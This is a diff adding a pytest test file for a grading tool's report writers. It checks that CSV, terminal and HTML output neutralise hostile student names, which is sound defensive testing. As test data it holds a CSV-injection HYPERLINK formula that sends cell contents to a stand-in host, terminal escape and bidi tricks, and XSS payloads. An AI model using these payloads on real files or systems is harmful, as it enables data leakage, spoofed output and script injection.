@@ -1,0 +1,78 @@
+"""What `make grade` writes: CSVs, the terminal summary and report.html never carry a name raw.
+
+Unit-level: rows are built by hand and handed to the report functions.
+"""
+
+from __future__ import annotations
+
+import csv
+import unicodedata
+from pathlib import Path
+
+import pytest
+
+from coursetools.grading import report
+
+# Names a folder or file in SUBMITTED can have (the intake reports them in rows).
+FORMULA_PREFIXES = ["=", "+", "-", "@", "\t", "\r"]
+FORMULAS = [p + 'HYPERLINK("http://x.example/?"&A1,"click")' for p in FORMULA_PREFIXES] + ["=1+1", "-2+3", "@SUM(A1)"]
+TERMINAL_TRICKS = {
+    "clear-screen": "ann\x1b[2J\x1b[H",
+    "retitle": "ann\x1b]0;pwned\x07",
+    "c1-csi": "ann\x9b2J",
+    "forged-line": "ann\nGraded 40 submission(s); 0 could not be graded.",
+    "carriage-return": "ann\rGraded 40",
+    "bidi-override": "ann\u202egnp.exe",
+    "nul-and-del": "ann\x00\x7f",
+    "undecodable-bytes": "ann\udcff\udcfe",  # os.listdir's surrogateescape for bytes that are not UTF-8
+}
+
+
+def _rows(names: list[str]) -> tuple[list[dict], list[dict]]:
+    rows = [{"student": n, "lab": n, "score": 0, "max_score": "", "status": "error", "reason": n} for n in names]
+    rows.append({"student": "bob", "lab": "01_backprop", "score": 3.0, "max_score": 19.0, "status": "graded",
+                 "reason": ""})
+    questions = [{"student": n, "lab": "01_backprop", "question": n, "score": 0.0, "max_score": 2.0,
+                  "misconception": n} for n in names]
+    return rows, questions
+
+
+def _cells(path: Path) -> list[str]:
+    with open(path, newline="", encoding="utf-8") as f:
+        return [cell for row in csv.reader(f) for cell in row]
+
+
+def test_every_csv_field_is_neutralised(tmp_path):
+    """OWASP's CSV-injection rule: no cell may start with = + - @ tab or CR, whatever field it is in."""
+    names = FORMULAS + list(TERMINAL_TRICKS.values())
+    rows, questions = _rows(names)
+    report.write_csvs(tmp_path, rows, questions)
+    for name in ("grades.csv", "grades_by_question.csv"):
+        cells = _cells(tmp_path / name)
+        assert len(cells) > len(names)
+        bad = [c for c in cells if c[:1] in FORMULA_PREFIXES]
+        assert not bad, f"{name}: {bad[:3]}"
+        # Neutralised, not dropped: the name is still there after the quote.
+        assert "'" + FORMULAS[0] in cells
+
+
+@pytest.mark.parametrize("trick", sorted(TERMINAL_TRICKS))
+def test_terminal_summary_carries_no_control_characters(trick):
+    name = TERMINAL_TRICKS[trick]
+    rows, questions = _rows([name])
+    text = report.terminal(report.summarise(rows, questions))
+    for line in text.split("\n"):
+        odd = [ch for ch in line if unicodedata.category(ch) in ("Cc", "Cf", "Cs", "Zl", "Zp")]
+        assert not odd, (trick, line)
+    honest = report.terminal(report.summarise(*_rows(["ann"])))
+    assert len(text.split("\n")) == len(honest.split("\n")), "a name added or removed a summary line"
+    assert "ann" in text
+
+
+def test_report_html_escapes_names(tmp_path):
+    names = ["<script>alert(1)</script>", "a' onmouseover='x", '"><img src=x>'] + list(TERMINAL_TRICKS.values())
+    rows, questions = _rows(names)
+    report.write_html(tmp_path, rows, report.summarise(rows, questions))
+    page = (tmp_path / "report.html").read_text(encoding="utf-8")
+    assert "<script>alert" not in page and "<img src=x>" not in page and "' onmouseover='" not in page
+    assert "\x1b" not in page and "\x9b" not in page
